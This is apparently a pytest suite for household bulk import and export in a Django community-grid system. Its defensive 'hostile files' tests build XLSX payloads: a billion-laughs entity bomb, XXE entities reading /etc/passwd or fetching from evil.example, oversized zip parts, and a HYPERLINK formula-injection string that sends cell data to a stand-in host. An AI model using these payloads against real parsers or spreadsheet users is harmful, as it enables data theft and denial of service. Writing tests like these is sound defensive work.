"""Bulk import and export of households: what a community worker with a spreadsheet
from the office would notice."""

import csv
import io
import os
import subprocess
import sys

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command, execute_from_command_line
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from governance.enums import AccessAction
from governance.models import AccessLog
from grids.enums import Gender, HouseholdChangeAction, HouseholdStatus
from grids.io.columns import HEADERS
from grids.io.importing import ImportRejected, household_import
from grids.models import Building, Household, HouseholdChange, Resident
from tests.factories import ResidentFactory

pytestmark = pytest.mark.django_db

A1 = "110101001001001"  # grid A1 of 甲一社区 (community_worker's, grid_worker's)
A2 = "110101001001002"  # grid A2 of 甲一社区
C1 = "110101002001001"  # grid C1 of 乙一社区 (outsider's)


def line(**cells) -> dict:
    """A row by header; the defaults are a valid new household in a new building of A1."""
    row = {"网格编码": A1, "楼栋编码": f"{A1}0009", "小区": "青年湖小区", "楼栋地址": "青年湖9号楼",
           "单元": "2", "房号": "301", "联系人": "张桂兰", "联系电话": "13811112222", "关怀标签": "独居老人、低保",
           "居民姓名": "张桂兰", "性别": "女", "出生年份": "1941", "手机号": "13811112222",
           "与户主关系": "户主", "是否党员": "是"}
    row.update(cells)
    return row


def csv_bytes(rows: list[dict], *, encoding: str = "utf-8-sig") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEADERS)
    for row in rows:
        writer.writerow([row.get(h, "") for h in HEADERS])
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(HEADERS))
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def system_import(data: bytes, filename: str = "households.csv", **kwargs):
    return household_import(actor=None, jurisdiction=None, filename=filename, data=data, **kwargs)


def db_snapshot():
    return (
        sorted(Building.objects.values_list("code", "address", "compound")),
        sorted(Household.objects.values_list("building__code", "unit", "room", "contact_name", "phone", "care_tags", "status")),
        sorted(Resident.objects.values_list("household__room", "name", "gender", "birth_year", "phone", "relation", "is_party_member")),
    )


def import_url(level, code):
    return reverse("household-import", args=[level, code])


def export_url(level, code):
    return reverse("household-export", args=[level, code])


def upload(client, url, data: bytes, name: str, **extra):
    return client.post(url, {"file": SimpleUploadedFile(name, data), **extra})


# ---- a file with errors imports nothing ---------------------------------------------

BAD_ROWS = [
    line(),                                                         # row 2: fine
    line(网格编码="110101001001099", 楼栋编码="1101010010010990001"),     # row 3: no such grid
    line(楼栋编码=f"{A2}0001", 房号="302"),                              # row 4: building of another grid
    line(房号=""),                                                    # row 5: room missing
    line(房号="303", 联系电话="12345"),                                  # row 6: bad phone
    line(房号="304", 关怀标签="独居老人、困难户"),                             # row 7: unknown care tag
    line(房号="305", 性别="未知", 出生年份="1850"),                          # row 8: bad gender and year
    line(),                                                         # row 9: duplicate of row 2
    line(网格编码=C1, 楼栋编码=f"{C1}0001", 房号="404"),                     # row 10: outside the jurisdiction
    line(楼栋编码=f"{A1}0077", 楼栋地址="", 小区="", 房号="1"),                # row 11: new building, no address
    line(房号="306", 联系人="", 居民姓名="", 性别="男", 出生年份="", 手机号="", 与户主关系="", 是否党员=""),  # row 12
    line(房号="307", 是否党员="也许"),                                    # row 13: bad yes/no
]


def test_file_with_bad_rows_imports_nothing_and_lists_errors_by_row(city, login):
    before = db_snapshot()
    changes_before = HouseholdChange.objects.count()
    client = login(city.users.community_worker)

    response = upload(client, import_url("community", city.comm_a.code), csv_bytes(BAD_ROWS), "住户.csv")

    assert response.status_code == 200
    assert db_snapshot() == before
    assert HouseholdChange.objects.count() == changes_before
    errors = {(e.row, e.column) for e in response.context["errors"]}
    assert errors == {
        (3, "网格编码"), (4, "楼栋编码"), (5, "房号"), (6, "联系电话"), (7, "关怀标签"), (8, "性别"),
        (8, "出生年份"), (9, "居民姓名"), (10, "网格编码"), (11, "楼栋地址"), (12, "居民姓名"), (13, "是否党员"),
    }
    page = response.content.decode()
    assert "未导入任何数据" in page
    assert "困难户" in page
    messages = {(e.row, e.column): e.message for e in response.context["errors"]}
    assert "与第 2 行重复" in messages[(9, "居民姓名")]
    assert "不在您的辖区内" in messages[(10, "网格编码")]
    assert "新楼栋" in messages[(11, "楼栋地址")]
    assert str(response.context["errors"][0]).startswith("第 3 行「网格编码」：")
    assert not AccessLog.objects.filter(action=AccessAction.IMPORT).exists()


def test_rows_of_one_household_must_agree_but_blanks_are_fine(city):
    rows = [
        line(居民姓名="张桂兰"),
        # the household's cells blank on its other rows, as with merged cells in Excel
        line(联系人="", 联系电话="", 关怀标签="", 居民姓名="李强", 性别="男", 与户主关系="子女", 是否党员="否"),
        line(联系电话="13999998888", 居民姓名="李娜", 与户主关系="子女"),
    ]
    with pytest.raises(ImportRejected) as exc:
        system_import(csv_bytes(rows))
    assert [(e.row, e.column) for e in exc.value.errors] == [(4, "联系电话")]
    assert "与第 2 行" in exc.value.errors[0].message

    result = system_import(csv_bytes(rows[:2]))
    household = Household.objects.get(building__code=f"{A1}0009")
    assert household.phone == "13811112222"
    assert household.residents.count() == 2
    assert (result.households_created, result.residents_created) == (1, 2)


def test_unknown_grid_is_reported_to_the_system_import(city):
    with pytest.raises(ImportRejected) as exc:
        system_import(csv_bytes([line(网格编码="110101001001099", 楼栋编码="1101010010010990001")]))
    assert exc.value.errors[0].row == 2
    assert "请先在系统中建立该网格" in exc.value.errors[0].message


def test_moved_out_household_is_not_touched(city):
    Household.objects.filter(pk=city.household_a1.pk).update(status=HouseholdStatus.MOVED_OUT, moved_out_at="2024-05-01")
    row = line(楼栋编码=city.building_a1.code, 单元="1", 房号="101", 居民姓名="王建国")
    with pytest.raises(ImportRejected) as exc:
        system_import(csv_bytes([row]))
    assert [(e.row, e.column) for e in exc.value.errors] == [(2, "房号")]
    assert "已迁出" in exc.value.errors[0].message


# ---- files from offices --------------------------------------------------------------

@pytest.mark.parametrize("encoding", ["gb18030", "utf-8-sig", "utf-8"])
def test_good_csv_imports_in_any_office_encoding(city, encoding):
    rows = [
        line(),
        line(居民姓名="李强", 性别="男", 出生年份="1968年", 手机号="010 65123456", 与户主关系="子女", 是否党员="否"),
        line(房号="302", 联系人="赵敏", 联系电话="01065120000", 关怀标签="", 居民姓名="", 性别="", 出生年份="",
             手机号="", 与户主关系="", 是否党员=""),
    ]
    result = system_import(csv_bytes(rows, encoding=encoding))

    assert (result.rows, result.buildings_created, result.households_created, result.residents_created) == (3, 1, 2, 2)
    building = Building.objects.get(code=f"{A1}0009")
    assert (building.grid_id, building.address, building.compound) == (A1, "青年湖9号楼", "青年湖小区")
    household = Household.objects.get(building=building, unit="2", room="301")
    assert household.contact_name == "张桂兰"
    assert household.care_tag_list == ["elderly_alone", "subsistence"]
    son = household.residents.get(name="李强")
    assert (son.gender, son.birth_year, son.phone, son.is_party_member) == (Gender.MALE, 1968, "010-65123456", False)
    assert household.residents.get(name="张桂兰").is_party_member is True
    empty = Household.objects.get(building=building, room="302")
    assert empty.phone == "010-65120000" and not empty.residents.exists()
    assert HouseholdChange.objects.filter(household=household, action=HouseholdChangeAction.IMPORT, resident_name="").count() == 1


def test_xlsx_with_codes_stored_as_numbers_keeps_every_digit(city):
    data = xlsx_bytes([
        # Excel stored the codes, room and year as numbers; one code even as a float.
        [int(A1), f"{A1}0010", "和平里小区", "和平里10号楼", 1, 101, "孙立", 13700001111, "重点关注",
         "孙立", "男", 1975, 13700001111, "户主", "否"],
        [float(A2), f"{A2}0011", None, "和平里11号楼", None, 202.0, None, None, None, None, None, None, None, None, None],
    ])
    result = system_import(data, filename="住户.xlsx")

    assert (result.buildings_created, result.households_created, result.residents_created) == (2, 2, 1)
    first = Household.objects.get(building__code=f"{A1}0010")
    assert (first.building.grid_id, first.unit, first.room, first.phone) == (A1, "1", "101", "13700001111")
    assert first.residents.get().birth_year == 1975
    second = Household.objects.get(building__code=f"{A2}0011")
    assert (second.building.grid_id, second.unit, second.room) == (A2, "", "202")


def test_a_code_excel_turned_into_scientific_notation_is_explained(city):
    with pytest.raises(ImportRejected) as exc:
        system_import(csv_bytes([line(网格编码="1.10101E+14")]))
    assert (exc.value.errors[0].row, exc.value.errors[0].column) == (2, "网格编码")
    assert "科学计数法" in exc.value.errors[0].message


@pytest.mark.parametrize(("name", "data", "message"), [
    ("住户.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "旧版 Excel"),
    ("住户.pdf", b"%PDF-1.4", "只能导入 CSV 或 XLSX"),
    ("住户.xlsx", b"not a zip at all", "无法读取这个 XLSX"),
    ("住户.csv", "姓名,电话\n张三,1\n".encode(), "没有找到表头"),
    ("住户.csv", "网格编码,楼栋编码\n".encode(), "缺少必填列：「房号」"),
])
def test_unreadable_files_are_refused_with_a_clear_reason(city, name, data, message):
    with pytest.raises(ImportRejected) as exc:
        system_import(data, filename=name)
    assert len(exc.value.errors) == 1 and exc.value.errors[0].row is None
    assert message in str(exc.value.errors[0])


def test_row_limit_is_a_setting(city, settings):
    settings.IMPORT_MAX_ROWS = 2
    rows = [line(房号=str(n), 居民姓名="") for n in range(3)]
    with pytest.raises(ImportRejected) as exc:
        system_import(csv_bytes(rows))
    assert "超过 2 行" in exc.value.errors[0].message
    assert not Household.objects.filter(building__code=f"{A1}0009").exists()


def test_byte_limit_is_a_setting(city, login, settings):
    settings.IMPORT_MAX_BYTES = 200
    client = login(city.users.grid_worker)
    response = upload(client, import_url("grid", A1), csv_bytes([line(), line(房号="302")]), "big.csv")
    assert response.status_code == 200
    assert "文件过大" in response.content.decode()
    assert not Building.objects.filter(code=f"{A1}0009").exists()


# ---- hostile files ------------------------------------------------------------------

def xlsx_with(parts: dict[str, bytes], rows: list[list] = ()) -> bytes:
    """A valid workbook (the headers and ``rows``) with some of its zip parts replaced or added."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(list(rows))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in parts:
                target.writestr(info.filename, source.read(info.filename))
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


def sheet_xml(first_cell: str, *, doctype: str = "", dimension: str | None = "A1:O2") -> bytes:
    """A first sheet: the headers, then one row whose first cell is ``first_cell`` (raw XML)."""
    from openpyxl.utils import get_column_letter

    header = "".join(f'<c r="{get_column_letter(i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
                     for i, h in enumerate(HEADERS, start=1))
    return (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + (f'<dimension ref="{dimension}"/>' if dimension else "") + f'<sheetData><row r="1">{header}</row>'
            f'<row r="2"><c r="A2" t="inlineStr"><is><t>{first_cell}</t></is></c></row>'
            "</sheetData></worksheet>").encode()


LAUGHS = "".join(
    f'<!ENTITY lol{n} "{("&lol%d;" % (n - 1)) * 10}">' for n in range(1, 10)
).replace("&lol0;", "lol")


@pytest.mark.parametrize(("parts", "what"), [
    # A billion laughs in the workbook part (parsed when the file is opened).
    ({"xl/workbook.xml": (f'<?xml version="1.0"?><!DOCTYPE lolz [{LAUGHS}]>'
                          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                          "<sheets><sheet name=\"&lol9;\" sheetId=\"1\" r:id=\"rId1\" "
                          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
                          "</sheets></workbook>").encode()}, "laughs"),
    # An external entity in a cell (parsed as the rows are read).
    ({"xl/worksheets/sheet1.xml": sheet_xml(
        "&xxe;", doctype='<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')}, "xxe"),
    # The same through a parameter entity.
    ({"xl/worksheets/sheet1.xml": sheet_xml(
        "x", doctype='<!DOCTYPE worksheet [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]>')}, "xxe-param"),
])
def test_an_xlsx_with_entities_is_refused_and_nothing_is_expanded_or_fetched(city, parts, what):
    with pytest.raises(ImportRejected) as exc:
        system_import(xlsx_with(parts), filename="住户.xlsx")
    assert [str(e) for e in exc.value.errors] == ["无法读取这个 XLSX 文件：它可能已损坏，或并不是 Excel 文件。"], what
    assert not Household.objects.filter(building__code=f"{A1}0009").exists()


def test_shared_strings_and_cells_are_limited_before_the_file_is_read(city, settings):
    """A few kilobytes of zip that unpack to more shared strings, declared cells or bytes
    than the settings allow are refused from the zip's parts, before openpyxl reads them."""
    settings.IMPORT_MAX_CELLS = 1000
    strings = ('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               + "<si><t>a</t></si>" * 1001 + "</sst>").encode()
    with pytest.raises(ImportRejected) as exc:
        system_import(xlsx_with({"xl/sharedStrings.xml": strings}), filename="住户.xlsx")
    assert "共享字符串）超过 1000 条" in str(exc.value.errors[0])

    # Exactly at the limit, split across the reader's 1 MB chunks, is fine.
    settings.IMPORT_MAX_CELLS = 200_000
    at_limit = ('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                + "<si><t>ab</t></si>" * 200_000 + "</sst>").encode()
    result = system_import(xlsx_with({"xl/sharedStrings.xml": at_limit}, rows=[list(line().values())]),
                           filename="住户.xlsx", dry_run=True)
    assert result.rows == 1

    settings.IMPORT_MAX_CELLS = 1000
    with pytest.raises(ImportRejected) as exc:
        system_import(xlsx_with({"xl/worksheets/sheet1.xml": sheet_xml("x", dimension="A1:XFD1048576")}),
                      filename="住户.xlsx")
    assert "单元格超过 1000 个" in str(exc.value.errors[0])

    settings.IMPORT_MAX_UNPACKED_BYTES = 100_000
    padding = b"<!--" + b" " * 200_000 + b"-->"
    with pytest.raises(ImportRejected) as exc:
        system_import(xlsx_with({"docProps/custom.xml": padding}), filename="住户.xlsx")
    assert "解压后超过" in str(exc.value.errors[0])


def test_cells_read_are_counted_too(city, settings):
    """A sheet without a <dimension> declares nothing: the cells are counted as they come."""
    settings.IMPORT_MAX_CELLS = 15  # the header's 15 cells fit, the data row's one does not
    data = xlsx_with({"xl/worksheets/sheet1.xml": sheet_xml("x", dimension=None)})
    with pytest.raises(ImportRejected) as exc:
        system_import(data, filename="住户.xlsx")
    assert "单元格超过 15 个" in str(exc.value.errors[0])


def test_a_nul_in_a_csv_cell_is_an_error_of_its_row(city):
    with pytest.raises(ImportRejected) as exc:
        system_import(csv_bytes([line(), line(房号="302", 联系人="张\x00桂兰")]))
    [error] = exc.value.errors
    assert (error.row, error.column) == (3, "联系人") and "空字符" in error.message
    assert not Household.objects.filter(building__code=f"{A1}0009").exists()


# ---- upsert -------------------------------------------------------------------------

def test_existing_households_and_residents_are_updated_and_blank_cells_keep_data(city, login):
    household = city.household_a1  # 1-101 王建国, 13812345678, 独居老人
    row = line(楼栋编码=city.building_a1.code, 小区="", 楼栋地址="改过的地址", 单元="1", 房号="101",
               联系人="", 联系电话="13800009999", 关怀标签="独居老人、残疾",
               居民姓名="王建国", 性别="男", 出生年份="", 手机号="", 与户主关系="", 是否党员="")
    client = login(city.users.grid_worker)

    response = upload(client, import_url("grid", A1), csv_bytes([row]), "update.csv")

    assert response.status_code == 302
    assert response["Location"] == reverse("grid-detail", args=[A1])
    household.refresh_from_db()
    assert (household.contact_name, household.phone, household.care_tag_list) == (
        "王建国", "13800009999", ["elderly_alone", "disability"])
    assert Building.objects.get(pk=city.building_a1.pk).address == "和平里1号楼"  # buildings are reused, not overwritten
    resident = household.residents.get(name="王建国")
    assert (resident.gender, resident.phone, resident.relation) == (Gender.MALE, "13812345678", "户主")
    change = HouseholdChange.objects.get(household=household, action=HouseholdChangeAction.IMPORT, resident_name="")
    assert change.changes == {"phone": ["13812345678", "13800009999"],
                              "care_tags": ["elderly_alone", "elderly_alone,disability"]}
    assert change.actor == city.users.grid_worker
    assert HouseholdChange.objects.get(household=household, resident_name="王建国").changes == {"gender": ["", "M"]}
    follow = client.get(response["Location"])
    assert "更新 1 户" in follow.content.decode()


def test_dry_run_checks_without_writing(city, login):
    before = db_snapshot()
    client = login(city.users.community_worker)
    response = upload(client, import_url("community", city.comm_a.code), csv_bytes([line()]), "a.csv", dry_run="on")
    assert response.status_code == 200
    assert "仅校验，未写入" in response.content.decode()
    assert db_snapshot() == before


def test_page_import_stays_inside_its_unit_and_the_account(city, login):
    rows = [line(网格编码=A2, 楼栋编码=f"{A2}0009")]
    # The community worker may edit A2, but this page imports into grid A1 only.
    response = upload(login(city.users.community_worker), import_url("grid", A1), csv_bytes(rows), "a.csv")
    assert "不在本次导入的范围" in response.context["errors"][0].message
    # The grid worker of A1 cannot see A2 at all.
    response = upload(login(city.users.grid_worker), import_url("grid", A1), csv_bytes(rows), "a.csv")
    assert "不在您的辖区内" in response.context["errors"][0].message
    assert not Building.objects.filter(code=f"{A2}0009").exists()


# ---- export ---------------------------------------------------------------------------

def test_export_round_trips_through_import_unchanged(city, login):
    ResidentFactory(household=city.household_a1, name="王小明", gender=Gender.MALE, birth_year=2010,
                    relation="孙子", is_party_member=False, phone="")
    Resident.objects.filter(name="王建国").update(is_party_member=True, birth_year=1948, gender=Gender.MALE)
    empty = Household.objects.create(building=city.building_a2, unit="", room="0101", phone="010-65120000")
    client = login(city.users.community_worker)
    before = db_snapshot()
    history_before = HouseholdChange.objects.count()

    response = client.get(export_url("community", city.comm_a.code))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADERS
    assert len(rows) == 1 + 4  # 王建国, 王小明, 李秀英's household (no residents), the new one; not 甲二社区's
    assert sheet["A2"].value == A1 and sheet["A2"].number_format == "@"
    assert {r[5] for r in rows[1:]} == {"101", "202", "0101"}  # the leading zero survives
    assert ("王建国", "男", "1948", "13812345678", "户主", "是") == rows[1][9:]
    assert rows[1][8] == "独居老人"
    log = AccessLog.objects.get(action=AccessAction.EXPORT)
    assert (log.user, log.subject, log.record_count) == (city.users.community_worker, f"community:{city.comm_a.code}", 4)

    response = upload(client, import_url("community", city.comm_a.code), data, "export.xlsx")

    assert response.status_code == 302
    assert db_snapshot() == before
    assert HouseholdChange.objects.count() == history_before
    assert empty.residents.count() == 0
    log = AccessLog.objects.get(action=AccessAction.IMPORT)
    assert (log.user, log.subject, log.record_count) == (city.users.community_worker, f"community:{city.comm_a.code}", 4)
    assert "4 行无变化" in client.get(response["Location"]).content.decode()


def test_export_imports_into_a_fresh_territory(city, tmp_path):
    out = tmp_path / "a1.xlsx"
    call_command("export_households", A1, str(out), stdout=io.StringIO())
    workbook = load_workbook(out)
    sheet = workbook.worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        row[1].value = f"{A1}0042"  # the same households in a new building
        row[3].value = "新建的42号楼"
    buffer = io.BytesIO()
    workbook.save(buffer)

    result = system_import(buffer.getvalue(), filename="moved.xlsx")

    assert (result.buildings_created, result.households_created, result.residents_created) == (1, 1, 1)
    copy = Household.objects.get(building__code=f"{A1}0042")
    assert (copy.contact_name, copy.phone, copy.care_tags) == ("王建国", "13812345678", "elderly_alone")


def test_template_has_the_headers_and_no_data(city, login):
    response = login(city.users.grid_worker).get(export_url("grid", A1) + "?template=1")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert [list(r) for r in workbook.worksheets[0].iter_rows(values_only=True)] == [list(HEADERS)]
    assert workbook.worksheets[0].column_dimensions["A"].number_format == "@"
    assert not AccessLog.objects.exists()  # no personal data in it


def test_import_page_shows_the_columns_and_the_template_link(city, login):
    response = login(city.users.community_worker).get(import_url("community", city.comm_a.code))
    page = response.content.decode()
    assert response.status_code == 200
    assert all(header in page for header in HEADERS)
    assert export_url("community", city.comm_a.code) + "?template=1" in page
    assert 'name="csrfmiddlewaretoken"' in page


# ---- who may --------------------------------------------------------------------------

@pytest.mark.parametrize("page", [import_url, export_url])
@pytest.mark.parametrize(("username", "level", "code"), [
    ("outsider", "community", "110101001001"),
    ("outsider", "grid", A1),
    ("grid_worker2", "grid", A1),
    ("department_handler", "community", "110101001001"),
    ("community_worker", "town", "110101001001"),
])
def test_outside_the_jurisdiction_the_pages_do_not_exist(city, login, page, username, level, code):
    assert login(getattr(city.users, username)).get(page(level, code)).status_code == 404


@pytest.mark.parametrize(("username", "reason"), [
    ("supervisor", "督查考核账号只读"),
    ("street_officer", "只有本社区的社区工作者或本网格的网格员"),
])
def test_read_only_roles_get_403_with_the_reason_on_import(city, login, username, reason):
    client = login(getattr(city.users, username))
    for response in (client.get(import_url("community", city.comm_a.code)),
                     upload(client, import_url("community", city.comm_a.code), csv_bytes([line()]), "a.csv")):
        assert response.status_code == 403
        assert reason in response.content.decode()
    assert client.get(export_url("community", city.comm_a.code)).status_code == 200  # they may still read
    assert not Building.objects.filter(code=f"{A1}0009").exists()


def test_a_supervisor_export_is_logged_for_the_street(city, login):
    response = login(city.users.district_supervisor).get(export_url("street", city.street_a.code))
    assert response.status_code == 200
    log = AccessLog.objects.get()
    assert (log.action, log.subject, log.record_count) == (AccessAction.EXPORT, f"street:{city.street_a.code}", 3)


# ---- the command ----------------------------------------------------------------------

def test_command_rejects_a_bad_file_with_exit_status_1_and_the_errors(city, tmp_path):
    path = tmp_path / "bad.csv"
    path.write_bytes(csv_bytes([line(), line(房号="9", 联系电话="12345")], encoding="gb18030"))
    err = io.StringIO()

    # manage.py exits with CommandError.returncode (run_from_argv closes the test's connection,
    # so the command is called directly here).
    with pytest.raises(CommandError) as exc:
        call_command("import_households", str(path), stdout=io.StringIO(), stderr=err)

    assert exc.value.returncode == 1
    assert "文件未导入" in str(exc.value)
    assert "第 3 行「联系电话」" in err.getvalue()
    assert not Building.objects.filter(code=f"{A1}0009").exists()


def test_command_imports_as_a_user_within_its_jurisdiction(city, tmp_path):
    path = tmp_path / "good.csv"
    path.write_bytes(csv_bytes([line(), line(居民姓名="李强", 与户主关系="子女")]))
    out = io.StringIO()

    call_command("import_households", str(path), "--user", "grid_worker", stdout=out, stderr=io.StringIO())

    assert "新建楼栋 1 栋" in out.getvalue() and "新增居民 2 人" in out.getvalue()
    assert Resident.objects.filter(household__building__code=f"{A1}0009").count() == 2
    log = AccessLog.objects.get(action=AccessAction.IMPORT)
    assert (log.user, log.subject, log.record_count) == (city.users.grid_worker, f"grid:{A1}", 2)

    outside = tmp_path / "outside.csv"
    outside.write_bytes(csv_bytes([line(网格编码=C1, 楼栋编码=f"{C1}0009")]))
    err = io.StringIO()
    with pytest.raises(CommandError) as exc:
        call_command("import_households", str(outside), "--user", "grid_worker", stdout=io.StringIO(), stderr=err)
    assert exc.value.returncode == 1
    assert "第 2 行「网格编码」" in err.getvalue()
    # Without --user: a system import, every grid.
    call_command("import_households", str(outside), stdout=io.StringIO(), stderr=io.StringIO())
    assert Building.objects.filter(code=f"{C1}0009").exists()
    assert AccessLog.objects.count() == 1


def test_command_help_says_what_runs_without_user(capsys):
    with pytest.raises(SystemExit):
        execute_from_command_line(["manage.py", "import_households", "--help"])
    text = "".join(capsys.readouterr().out.split())
    assert "不指定--user时是系统导入：可导入任何网格（完全权限）" in text


def test_manage_py_exits_non_zero_on_a_rejected_file(tmp_path):
    """The real process: a file refused before any database work, so no test data is needed."""
    path = tmp_path / "住户.pdf"
    path.write_bytes(b"%PDF-1.4")
    env = {**os.environ, "SECRET_KEY": os.environ.get("SECRET_KEY", "x")}
    done = subprocess.run([sys.executable, "manage.py", "import_households", str(path)], cwd=settings.BASE_DIR,
                          env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1, done.stderr
    assert "只能导入 CSV 或 XLSX 文件" in done.stderr


def test_a_formula_typed_into_a_cell_imports_as_text_and_exports_as_text(city, login):
    """A household contact typed as a formula comes back out of export.xlsx as a string
    cell with the same text (never a live formula), and imports back unchanged."""
    evil = '=HYPERLINK("http://evil.example/x?"&A2,"点击查看")'
    client = login(city.users.community_worker)
    rows = [line(联系人=evil, 居民姓名="@张桂兰", 与户主关系="-户主+")]
    response = upload(client, import_url("community", city.comm_a.code), csv_bytes(rows), "a.csv")
    assert response.status_code == 302
    household = Household.objects.get(building__code=f"{A1}0009")
    assert household.contact_name == evil
    assert household.residents.get().name == "@张桂兰"

    data = b"".join(client.get(export_url("community", city.comm_a.code)).streaming_content)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == f"{A1}0009")
    contact, name, relation = row[6], row[9], row[13]
    assert (contact.value, contact.data_type) == (evil, "s")
    assert (name.value, name.data_type) == ("@张桂兰", "s")
    assert (relation.value, relation.data_type) == ("-户主+", "s")

    before = db_snapshot()
    response = upload(client, import_url("community", city.comm_a.code), data, "export.xlsx")
    assert response.status_code == 302
    assert db_snapshot() == before


def test_a_large_export_goes_to_a_job_split_into_sheets(city, login, settings, django_capture_on_commit_callbacks):
    """Issue 23: above EXPORT_XLSX_INLINE_MAX_ROWS the page hands the export to a job (the
    same workbook; its data sheet continued past EXPORT_XLSX_SHEET_MAX_ROWS rows), whose
    file only the same scope downloads, logged."""
    from governance.enums import ExportState
    from governance.models import ExportJob

    settings.EXPORT_XLSX_INLINE_MAX_ROWS = 3
    settings.EXPORT_XLSX_SHEET_MAX_ROWS = 3
    ResidentFactory(household=city.household_a1, name="王小明", phone="")
    Household.objects.create(building=city.building_a2, unit="", room="0101", phone="010-65120000")
    client = login(city.users.community_worker)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(export_url("community", city.comm_a.code))
    assert response.status_code == 302 and response["Location"].startswith("/exports/")
    job = ExportJob.objects.get()
    assert (job.state, job.kind, job.done_rows) == (ExportState.DONE, "households", 4)
    assert "已生成，共 4 行" in client.get(response["Location"]).content.decode()
    assert login(city.users.outsider).get(f"/exports/{job.token}/download/").status_code == 404
    client = login(city.users.community_worker)
    download = client.get(f"/exports/{job.token}/download/")
    workbook = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert workbook.sheetnames[:2] == ["住户", "住户 (2)"]
    data = [list(s.iter_rows(values_only=True)) for s in workbook.worksheets[:2]]
    assert data[0][0] == HEADERS and data[1][0] == HEADERS
    assert (len(data[0]), len(data[1])) == (1 + 3, 1 + 1)
    assert data[0][1][8] == "独居老人"  # the community's staff see the care tags
    log = AccessLog.objects.get(action=AccessAction.EXPORT)
    assert (log.user, log.subject, log.record_count) == (city.users.community_worker, f"export:households:{job.pk}", 4)
